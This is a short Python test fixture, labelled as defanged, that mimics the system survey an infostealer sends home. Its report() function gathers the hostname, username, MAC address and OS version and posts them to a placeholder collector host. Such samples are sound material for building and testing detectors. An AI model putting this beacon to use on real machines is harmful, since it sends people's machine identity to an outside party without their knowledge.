# Defanged fixture: the survey a stealer sends home before anything else.
import getpass
import platform
import socket
import uuid

import requests


def report():
    host = socket.gethostname()
    user = getpass.getuser()
    mac = ':'.join('%02x' % ((uuid.getnode() >> s) & 0xff) for s in range(40, -8, -8))
    payload = {"h": host, "u": user, "m": mac, "os": platform.platform()}
    requests.post("https://collector.example.invalid/r", json=payload, timeout=5)
